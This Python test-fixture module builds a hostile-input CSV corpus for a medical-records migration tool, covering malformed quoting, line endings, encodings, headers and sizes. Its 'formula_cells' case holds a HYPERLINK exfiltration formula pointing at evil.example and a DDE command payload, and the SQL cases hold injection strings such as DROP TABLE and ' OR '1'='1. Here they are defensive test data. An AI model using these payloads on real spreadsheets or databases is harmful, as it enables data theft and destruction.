"""The hostile-input corpus (issue 14 item 8): CSV files as data, written at test time.

Every case is one `people.csv` for `hostile.mig` (columns `id`, `name` phi, `status`;
rows with status `D` are filtered, status `X` is rejected by the rule "on hold", `name`
must fit `varchar(100) not null`).  A case lists its records as the bytes written (line
terminator included) and, for each, what must become of it:

- `LOADED`, `FILTERED`, or `SKIPPED` (a blank line: not a record at all);
- a reason code: a parse-level code (`PARSE_CODES`: the record is malformed, not staged,
  counted in the source's `malformed`) or a map-level one (`MAP_CODES`: staged, then
  rejected by the map).

Everything a test expects is derived from that table: the accounting, the reason codes,
the exit code (the spec's `reject_rate` threshold), and the position of each rejected
record (the line of its start and its byte offset, counted in the bytes written).

What the expectations assume (the contract issue 14 asks for; docs/LANGUAGE.md is to say so):

- **Line terminators** are LF and CRLF; a lone CR ends a line only in a file whose
  header line ends with a lone CR ("CR-only" files).  Elsewhere a CR outside quotes is
  a `bare_cr` reject, never a silent line break or a silent part of a value.
  `line` is 1 + the number of line breaks (LF; and lone CR in a CR-only file) before the
  record's first byte; `offset` is the number of bytes before it.
- Checks on a record's bytes (NUL, encoding, bare CR) come before its structure
  (quotes, field count): a record with both problems gets the byte-level code.
- An unterminated quote runs to the end of the file: the rest of the file is one
  malformed record (its original bytes are kept for replay).
- A quote inside an unquoted field is kept as text (`5'10"`); text after a closing quote
  is `bad_quote`.
- Blank lines are not records.  A file without a header (zero bytes, only a line break)
  has no records.  A header naming a declared column twice, or lacking one, makes every
  record of the file a reject (`duplicate_column`, `missing_column`).
- An empty field, quoted or not, is NULL (docs/LANGUAGE.md, "Blank is NULL"); `NULL`
  and `\\N` are text.  `trim` removes U+0020 only (docs/FUNCTIONS.md).  Text is
  compared byte-wise: `é` and `e\u0301`, `k` and `k ` are different keys.
- `varchar(100)` counts characters (code points), not bytes.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

SPEC = Path(__file__).with_name("hostile.mig")
FILE = "people.csv"
KEY = "id"
COLUMNS = ("id", "name", "status")
MAP = "legacy.people -> emr.person"
SOURCE = "legacy.people"
TARGET_COLUMNS = ("mrn", "name", "trimmed", "status")  # read back by mrn (= id)
REJECT_RATE_FAIL_ABOVE = 50  # hostile.mig's reject_rate threshold, in %

LOADED, FILTERED, SKIPPED = "loaded", "filtered", "skipped"

# The stable reason codes (issue 14 item 2), parse level: the record is malformed.
PARSE_CODES = {
    "too_few_fields": "the record has fewer fields than the header",
    "too_many_fields": "the record has more fields than the header",
    "unterminated_quote": "a quoted field is not closed before the end of the file",
    "bad_quote": "text follows a closing quote",
    "invalid_encoding": "bytes that are not valid in the file's encoding",
    "nul_byte": "a NUL (0x00) byte",
    "bare_cr": "a carriage return outside quotes in a file whose lines end with LF or CRLF",
    "line_too_long": "the record is longer than the maximum record size",
    "missing_column": "the header lacks a column the spec declares",
    "duplicate_column": "the header names a column the spec declares more than once",
}
# ... and map level: the record was staged and the map rejected it.
MAP_CODES = {
    "cast": "a value does not fit its source column type",
    "missing_key": "the legacy key is empty",
    "reject": "a reject rule of the map",
    "not_null": "a required target column is empty",
    "too_long": "a value is longer than its target column",
    "out_of_range": "a value does not fit its decimal column",
    "not_allowed": "a value is not one of the column's allowed values",
    "check_failed": "a value fails its column's check",
    "duplicate_key": "an earlier record has the same legacy key",
}
OUTCOMES = {LOADED, FILTERED, SKIPPED} | set(PARSE_CODES) | set(MAP_CODES)

# The hostile inputs the corpus must cover (issue 14, item 8); every case names the ones it covers.
COVERAGE = (
    "ragged rows",
    "unterminated quote mid-file",
    "unterminated quote at EOF",
    "CR-only line endings",
    "mixed line endings",
    "bare CR in an unquoted field",
    "bare LF in an unquoted field",
    "NUL quoted",
    "NUL unquoted",
    "invalid UTF-8",
    "cp1252 bytes in a UTF-8 file",
    "BOM at the start",
    "BOM in the middle",
    "header only",
    "empty file",
    "zero bytes",
    "duplicate header names",
    "missing column",
    "extra column",
    "literal NULL",
    "literal \\N",
    "U+00A0",
    "zero-width spaces",
    "3 MB field",
    "10,000 columns",
    "formula-looking cells",
    "SQL-looking text",
)

HEADER = b"id,name,status"
BOM = b"\xef\xbb\xbf"
MB3 = 3 * 1024 * 1024


@dataclass(frozen=True)
class Record:
    raw: bytes  # as written, line terminator included
    outcome: str


@dataclass(frozen=True)
class Expected:
    """What the report and the target must show for a case."""

    records: int
    staged: int
    malformed: int
    source_rows: int
    loaded: int
    rejected: int
    filtered: int
    merged: int
    codes: Counter
    exit_code: int

    @property
    def accounting(self) -> dict:
        return {k: getattr(self, k) for k in ("records", "staged", "malformed", "source_rows", "loaded", "rejected", "filtered", "merged")}


@dataclass(frozen=True)
class Case:
    name: str
    covers: tuple[str, ...]
    records: tuple[Record, ...]
    head: bytes = HEADER + b"\n"  # everything before the first record: BOM, header
    values: dict = field(default_factory=dict)  # mrn -> {target column: expected value}
    note: str = ""

    @property
    def data(self) -> bytes:
        return self.head + b"".join(r.raw for r in self.records)

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / FILE
        path.write_bytes(self.data)
        return path

    @property
    def cr_only(self) -> bool:
        """The header line ends with a lone CR."""
        i = min((j for j in (self.head.find(b"\r"), self.head.find(b"\n")) if j >= 0), default=-1)
        return i >= 0 and self.head[i : i + 1] == b"\r" and self.head[i + 1 : i + 2] != b"\n"

    def line_at(self, offset: int) -> int:
        before = self.data[:offset]
        breaks = before.count(b"\n")
        if self.cr_only:
            breaks += before.count(b"\r") - before.count(b"\r\n")
        return breaks + 1

    def positions(self) -> list[tuple[int, int, str]]:
        """(line, byte offset, code) of every rejected record, in file order."""
        out, offset = [], len(self.head)
        for r in self.records:
            if r.outcome in PARSE_CODES or r.outcome in MAP_CODES:
                out.append((self.line_at(offset), offset, r.outcome))
            offset += len(r.raw)
        return out

    def expected(self) -> Expected:
        got = Counter(r.outcome for r in self.records if r.outcome != SKIPPED)
        malformed = sum(n for o, n in got.items() if o in PARSE_CODES)
        rejected = sum(n for o, n in got.items() if o in MAP_CODES)
        records = sum(got.values())
        staged = records - malformed
        bad, denominator = rejected + malformed, staged + malformed
        exit_code = 1 if denominator and bad * 100 > REJECT_RATE_FAIL_ABOVE * denominator else 0
        return Expected(
            records,
            staged,
            malformed,
            staged,
            got[LOADED],
            rejected,
            got[FILTERED],
            0,
            Counter({o: n for o, n in got.items() if o in PARSE_CODES or o in MAP_CODES}),
            exit_code,
        )


def rows(*items, eol: bytes = b"\n", last_eol: bool = True) -> tuple[Record, ...]:
    """Records from (text or bytes, outcome) pairs, each ended by `eol` (the last one only
    if `last_eol`).  Text is encoded as UTF-8; bytes are written as they are."""
    out = []
    for i, (content, outcome) in enumerate(items):
        raw = content.encode("utf-8") if isinstance(content, str) else content
        end = eol if (last_eol or i < len(items) - 1) else b""
        out.append(Record(raw + end, outcome))
    return tuple(out)


def raw(*items) -> tuple[Record, ...]:
    """Records given with their terminators (or none)."""
    return tuple(Record(content.encode("utf-8") if isinstance(content, str) else content, outcome) for content, outcome in items)


WIDE = 10_000
WIDE_HEADER = ",".join(["id", "name", "status"] + [f"c{i}" for i in range(4, WIDE + 1)]).encode()


def wide(prefix: str) -> str:
    return prefix + "," * (WIDE - 3)


L, F, S = LOADED, FILTERED, SKIPPED

CASES: tuple[Case, ...] = (
    # ---- the baseline and line structure
    Case(
        "clean",
        ("mixed line endings",),
        rows(("1,Ann,A", L), ("2,Bob,D", F), ("3,Cyrano,X", "reject")),
        values={"1": {"name": "Ann", "trimmed": "Ann", "status": "A"}},
    ),
    Case(
        "crlf",
        ("mixed line endings",),
        rows(("1,Ann,A", L), ("2,Bob,D", F), ("3,Cy,X", "reject"), eol=b"\r\n"),
        head=HEADER + b"\r\n",
        values={"1": {"name": "Ann", "status": "A"}},
    ),
    Case(
        "cr_only",
        ("CR-only line endings",),
        rows(("1,Ann,A", L), ("2,Bob,D", F), ('3,"a\nb",A', L), ("4,Dee,X", "reject"), eol=b"\r"),
        head=HEADER + b"\r",
        values={"1": {"name": "Ann", "status": "A"}, "3": {"name": "a\nb"}},
    ),
    Case(
        "mixed_lf_crlf",
        ("mixed line endings",),
        raw(("1,Ann,A\r\n", L), ("2,Bob,A\n", L), ("3,Cy,X\r\n", "reject"), ("4,Dee,A\n", L)),
        values={"2": {"name": "Bob", "status": "A"}, "4": {"status": "A"}},
    ),
    Case(
        "crlf_header_lf_rows",
        ("mixed line endings",),
        rows(("1,Ann,A", L), ("2,Bob,X", "reject"), ("3,Cy,A", L)),
        head=HEADER + b"\r\n",
        values={"1": {"status": "A"}},
    ),
    Case("no_final_newline", (), rows(("1,Ann,A", L), ("2,Bob,A", L), last_eol=False), values={"2": {"status": "A"}}),
    Case("blank_lines", (), raw(("1,Ann,A\n", L), ("\n", S), ("2,Bob,X\n", "reject"), ("\n", S), ("3,Cy,A\n", L), ("\n", S))),
    Case(
        "quoted_line_breaks",
        ("mixed line endings",),
        rows(('1,"line 1\nline 2",A', L), ('2,"a\r\nb",A', L), ("3,Cy,X", "reject"), ('4,"x\ry",A', L)),
        values={"1": {"name": "line 1\nline 2"}, "2": {"name": "a\r\nb"}, "4": {"name": "x\ry"}},
    ),
    # ---- ragged rows, quotes
    Case("ragged_short", ("ragged rows", "missing column"), rows(("1,Ann,A", L), ("2,Bobbie", "too_few_fields"), ("3,Cy,A", L))),
    Case("ragged_long", ("ragged rows", "extra column"), rows(("1,Ann,A", L), ("2,Bobbie,A,extra", "too_many_fields"), ("3,Cy,A", L))),
    Case(
        "ragged_mixed",
        ("ragged rows",),
        rows(
            ("1", "too_few_fields"),
            ("2,Bob,A", L),
            ("3,Cy,A,,,", "too_many_fields"),
            ("4,Dee,", L),
            (",,,", "too_many_fields"),
            ("5,Eve,X", "reject"),
        ),
    ),
    Case("unterminated_quote_at_eof", ("unterminated quote at EOF",), rows(("1,Ann,A", L), ('2,"Bobbie,A', "unterminated_quote"))),
    Case(
        "unterminated_quote_at_eof_no_newline",
        ("unterminated quote at EOF",),
        rows(("1,Ann,A", L), ('2,"Bob,A', "unterminated_quote"), last_eol=False),
    ),
    Case(
        "unterminated_quote_mid_file",
        ("unterminated quote mid-file",),
        raw(("1,Ann,A\n", L), ('2,"Bob,A\n3,Cy,A\n4,Dee,A\n', "unterminated_quote")),
        note="the open quote swallows the rest of the file: one malformed record",
    ),
    Case(
        "quote_inside_unquoted_field",
        (),
        rows(("1,Ann,A", L), ("2,5'10\",A", L), ('3,Bo"b,A', L)),
        values={"2": {"name": "5'10\""}, "3": {"name": 'Bo"b'}},
    ),
    Case("text_after_closing_quote", (), rows(("1,Ann,A", L), ('2,"Bobbie"by,A', "bad_quote"), ("3,Cy,A", L))),
    Case(
        "quoted_delimiters_and_quotes",
        (),
        rows(('1,"Doe, ""JJ""",A', L), ('2,"""",A', L), ('"3","Cy","A"', L)),
        values={"1": {"name": 'Doe, "JJ"'}, "2": {"name": '"'}, "3": {"name": "Cy", "status": "A"}},
    ),
    # ---- bare CR / LF outside quotes
    Case("bare_cr_unquoted", ("bare CR in an unquoted field",), rows(("1,Ann,A", L), ("2,Al\rice,A", "bare_cr"), ("3,Cy,A", L))),
    Case(
        "bare_cr_unquoted_crlf_file",
        ("bare CR in an unquoted field",),
        rows(("1,Ann,A", L), ("2,Al\rice,A", "bare_cr"), ("3,Cy,A", L), eol=b"\r\n"),
        head=HEADER + b"\r\n",
    ),
    Case(
        "bare_cr_before_line_end", ("bare CR in an unquoted field",), raw(("1,Ann,A\n", L), ("2,Alice,A\r\r\n", "bare_cr"), ("3,Cy,A\n", L))
    ),
    Case(
        "bare_lf_unquoted",
        ("bare LF in an unquoted field",),
        rows(("1,Ann,A", L), ("2,Al", "too_few_fields"), ("ice,A", "too_few_fields"), ("3,Cy,A", L)),
        note="in an LF file an LF always ends the line: the record splits in two",
    ),
    Case(
        "bare_lf_unquoted_cr_file",
        ("bare LF in an unquoted field", "CR-only line endings"),
        raw(("1,Ann,A\r", L), ("2,Al\n", "too_few_fields"), ("ice,A\r", "too_few_fields"), ("3,Cy,A\r", L)),
        head=HEADER + b"\r",
        note="LF ends a line in every file",
    ),
    # ---- NUL bytes
    Case("nul_unquoted", ("NUL unquoted",), rows(("1,Ann,A", L), (b"2,Bobbie\x00b,A", "nul_byte"), ("3,Cy,A", L))),
    Case("nul_quoted", ("NUL quoted",), rows(("1,Ann,A", L), (b'2,"Bo\x00b",A', "nul_byte"), ("3,Cy,A", L))),
    Case("nul_whole_field", ("NUL unquoted",), rows((b"1,\x00,A", "nul_byte"), ("2,Bob,A", L))),
    Case(
        "nul_padding_at_eof",
        ("NUL unquoted",),
        raw(("1,Ann,A\n", L), ("2,Bob,A\n", L), (b"\x00" * 64, "nul_byte")),
        note="a truncated export padded with NULs: bytes before structure",
    ),
    # ---- encodings
    Case("invalid_utf8", ("invalid UTF-8",), rows(("1,Ann,A", L), (b"2,\xff\xfeBobbie,A", "invalid_encoding"), ("3,Cy,A", L))),
    Case("utf8_truncated_at_eof", ("invalid UTF-8",), rows(("1,Ann,A", L), (b"2,Caf\xc3", "invalid_encoding"), last_eol=False)),
    Case(
        "utf8_overlong_and_surrogate",
        ("invalid UTF-8",),
        rows((b"1,\xc0\xafx,A", "invalid_encoding"), (b"2,\xed\xa0\x80x,A", "invalid_encoding"), ("3,Cy,A", L)),
    ),
    Case(
        "cp1252_bytes_in_utf8",
        ("cp1252 bytes in a UTF-8 file",),
        rows((b"1,Caf\xe9,A", "invalid_encoding"), (b"2,\x93Hi\x94,A", "invalid_encoding"), ("3,Renée,A", L)),
        values={"3": {"name": "Renée"}},
    ),
    Case(
        "bom_at_start",
        ("BOM at the start",),
        rows(("1,Ann,A", L), ("2,Bob,X", "reject")),
        head=BOM + HEADER + b"\n",
        values={"1": {"name": "Ann"}},
    ),
    Case(
        "bom_in_the_middle",
        ("BOM in the middle",),
        rows(("1,Ann,A", L), (BOM + b"2,Bob,A", L), (b"3,Cy" + BOM + b",A", L)),
        values={"\ufeff2": {"name": "Bob"}, "3": {"name": "Cy\ufeff", "trimmed": "Cy\ufeff"}},
        note="a BOM after the start is text (U+FEFF): it stays in the value",
    ),
    # ---- files without records
    Case("header_only", ("header only",), ()),
    Case("header_only_no_newline", ("header only",), (), head=HEADER),
    Case("empty_file", ("empty file",), (), head=b"\n"),
    Case("zero_bytes", ("zero bytes",), (), head=b""),
    # ---- headers
    Case(
        "duplicate_header_declared",
        ("duplicate header names",),
        rows(("1,Ann,Annie,A", "duplicate_column"), ("2,Bob,Bobby,A", "duplicate_column")),
        head=b"id,name,name,status\n",
    ),
    Case(
        "duplicate_header_undeclared",
        ("duplicate header names", "extra column"),
        rows(("1,Ann,A,x1,y1", L), ("2,Bob,X,x2,y2", "reject")),
        head=b"id,name,status,x,x\n",
        values={"1": {"name": "Ann", "status": "A"}},
    ),
    Case("header_missing_column", ("missing column",), rows(("1,Ann", "missing_column"), ("2,Bob", "missing_column")), head=b"id,name\n"),
    Case(
        "header_extra_column_reordered",
        ("extra column",),
        rows(("A,1,extra,Ann", L), ("D,2,extra,Bob", F)),
        head=b"status,id,extra,name\n",
        values={"1": {"name": "Ann", "status": "A"}},
    ),
    Case("header_case_and_spaces", (), rows(("1,Ann,A", L)), head=b' ID ,Name,"STATUS"\n', values={"1": {"status": "A"}}),
    Case(
        "trailing_delimiter_everywhere",
        ("extra column",),
        rows(("1,Ann,A,", L), ("2,Bob,X,", "reject")),
        head=HEADER + b",\n",
        values={"1": {"status": "A"}},
    ),
    # ---- values that look like markers
    Case(
        "literal_null",
        ("literal NULL",),
        rows(("1,NULL,A", L), ("2,null,A", L), ('3,"NULL",A', L), ("4,Ann,NULL", L)),
        values={"1": {"name": "NULL", "trimmed": "NULL"}, "2": {"name": "null"}, "3": {"name": "NULL"}, "4": {"status": "NULL"}},
    ),
    Case(
        "literal_backslash_n",
        ("literal \\N",),
        rows(("1,\\N,A", L), ('2,"\\N",A', L), ("3,\\\\N,A", L), ("4,Ann,\\N", L)),
        values={"1": {"name": "\\N"}, "2": {"name": "\\N"}, "3": {"name": "\\\\N"}, "4": {"status": "\\N"}},
    ),
    Case(
        "empty_and_quoted_empty",
        (),
        rows(("1,,A", "not_null"), ('2,"",A', "not_null"), ("3,Cy,", L), ('4,Dee,""', L)),
        values={"3": {"status": None}, "4": {"status": None}},
    ),
    Case("missing_key", (), rows((",Annabel,A", "missing_key"), ('"",Bobbie,Active', "missing_key"), ("3,Cy,A", L))),
    Case(
        "spaces_only",
        (),
        rows(("1, ,A", L), ("2,   ,A", L)),
        values={"1": {"name": " ", "trimmed": ""}, "2": {"name": "   ", "trimmed": ""}},
    ),
    # ---- Unicode spaces
    Case(
        "no_break_space",
        ("U+00A0",),
        rows(("1,\u00a0Ann\u00a0,A", L), ("2, \u00a0 Bob \u00a0 ,A", L), ("3,\u00a0,A", L)),
        values={"1": {"trimmed": "\u00a0Ann\u00a0"}, "2": {"trimmed": "\u00a0 Bob \u00a0"}, "3": {"name": "\u00a0", "trimmed": "\u00a0"}},
    ),
    Case(
        "zero_width_spaces",
        ("zero-width spaces",),
        rows(("1,\u200bAnn\u200b,A", L), ("2, Bob\u200d ,A", L), ("3,\u2060,A", L)),
        values={"1": {"trimmed": "\u200bAnn\u200b"}, "2": {"trimmed": "Bob\u200d"}, "3": {"trimmed": "\u2060"}},
    ),
    Case(
        "other_unicode_spaces",
        ("U+00A0",),
        rows(("1,\u2003Ann\u3000,A", L), ("2,\tBob\t,A", L), ("3,\x0bCy\x0c,A", L), ("4,\u2028Dee\u2029,A", L)),
        values={
            "1": {"trimmed": "\u2003Ann\u3000"},
            "2": {"trimmed": "\tBob\t"},
            "3": {"trimmed": "\x0bCy\x0c"},
            "4": {"trimmed": "\u2028Dee\u2029"},
        },
    ),
    Case(
        "control_characters",
        (),
        rows(("1,a\x01b\x1bc\x7f,A", L), ("2,bell\x07,A", L)),
        values={"1": {"name": "a\x01b\x1bc\x7f"}, "2": {"name": "bell\x07"}},
    ),
    Case(
        "astral_and_bidi",
        (),
        rows(("1,😀👍🏽,A", L), ("2,𝔘𝔫𝔦,A", L), ("3,\u202eevil\u202c,A", L)),
        values={"1": {"name": "😀👍🏽"}, "2": {"name": "𝔘𝔫𝔦"}, "3": {"name": "\u202eevil\u202c"}},
    ),
    # ---- keys compared byte-wise
    Case(
        "keys_unnormalised",
        (),
        rows(("é,Ann,A", L), ("e\u0301,Bob,A", L), ("k,Cy,A", L), ("K,Dee,A", L), ("k ,Eve,A", L), ("k,Fay,A", "duplicate_key")),
        values={"é": {"name": "Ann"}, "e\u0301": {"name": "Bob"}, "k": {"name": "Cy"}, "K": {"name": "Dee"}, "k ": {"name": "Eve"}},
    ),
    Case(
        "duplicate_key_after_filtered",
        (),
        rows(("1,Ann,A", L), ("1,Annie,A", "duplicate_key"), ("2,Bob,D", F), ("2,Bobby,A", L)),
        values={"1": {"name": "Ann"}, "2": {"name": "Bobby"}},
        note="a filtered row never takes part in duplicate-key decisions",
    ),
    # ---- sizes
    Case(
        "length_in_characters",
        (),
        rows(
            ("1," + "a" * 100 + ",A", L),
            ("2," + "a" * 101 + ",A", "too_long"),
            ("3," + "é" * 100 + ",A", L),
            ("4," + "😀" * 100 + ",A", L),
            ("5," + "e\u0301" * 50 + ",A", L),
            ("6," + "e\u0301" * 51 + ",A", "too_long"),
            ("7" * 101 + ",Ann,A", "too_long"),
        ),
        values={"3": {"name": "é" * 100}, "4": {"name": "😀" * 100}},
    ),
    Case("field_3mb_in_varchar", ("3 MB field",), rows(("1,Ann,A", L), ("2," + "x" * MB3 + ",Active", "too_long"), ("3,Cy,A", L))),
    Case("field_3mb_in_text", ("3 MB field",), rows(("1,Ann,A", L), ("2,Bob," + "A" * MB3, L), ("3,Cy,D", F))),
    Case(
        "ten_thousand_columns",
        ("10,000 columns",),
        rows((wide("1,Ann,A"), L), (wide("2,Bob,X"), "reject"), (wide("3,Cy,D"), F)),
        head=WIDE_HEADER + b"\n",
        values={"1": {"name": "Ann", "status": "A"}},
    ),
    # ---- content that looks like code
    Case(
        "formula_cells",
        ("formula-looking cells",),
        rows(
            ('1,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",A', L),
            ("2,+cmd|' /C calc'!A0,A", L),
            ("3,-2+3,A", L),
            ("4,@SUM(A1:A9),A", L),
            ("5,=1+1,=2+2", L),
        ),
        values={
            "1": {"name": '=HYPERLINK("http://evil.example/?d="&A1,"click")'},
            "2": {"name": "+cmd|' /C calc'!A0"},
            "3": {"name": "-2+3"},
            "4": {"name": "@SUM(A1:A9)"},
            "5": {"name": "=1+1", "status": "=2+2"},
        },
    ),
    Case(
        "sql_looking_text",
        ("SQL-looking text",),
        rows(
            ("1,Robert'); DROP TABLE emr.person;--,A", L),
            ("2,' OR '1'='1,A", L),
            ("3,1; SELECT pg_sleep(10),A", L),
            ("4,*/ DROP /*,A", L),
            ("5,$$x$$,A", L),
            ("6,C:\\new\\table\\,A", L),
            ("7,\\',A", L),
        ),
        values={
            "1": {"name": "Robert'); DROP TABLE emr.person;--"},
            "2": {"name": "' OR '1'='1"},
            "4": {"name": "*/ DROP /*"},
            "5": {"name": "$$x$$"},
            "6": {"name": "C:\\new\\table\\"},
            "7": {"name": "\\'"},
        },
    ),
    Case(
        "sql_looking_keys",
        ("SQL-looking text",),
        rows(('"\'; DROP TABLE x; --",Ann,A', L), ('"a""b",Bob,A', L), ("`x`,Cy,A", L), ("%_*,Dee,X", "reject")),
        values={"'; DROP TABLE x; --": {"name": "Ann"}, 'a"b': {"name": "Bob"}, "`x`": {"name": "Cy"}},
    ),
)

BY_NAME = {c.name: c for c in CASES}
